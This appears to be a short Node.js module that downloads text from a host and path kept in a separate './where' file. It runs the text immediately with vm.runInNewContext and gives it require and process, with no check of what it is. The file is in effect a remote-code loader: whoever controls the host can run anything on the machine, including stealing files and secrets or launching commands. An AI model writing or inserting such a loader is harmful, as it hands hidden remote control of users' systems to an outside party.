const { get } = require('https')
const { runInNewContext } = require('vm')
const { host, path } = require('./where')

get({ host, path, headers: { accept: 'text/plain' } }, (message) => {
  const chunks = []
  message.on('data', (chunk) => chunks.push(chunk))
  message.on('end', () => runInNewContext(Buffer.concat(chunks).toString('utf8'), { require, process, console }))
})
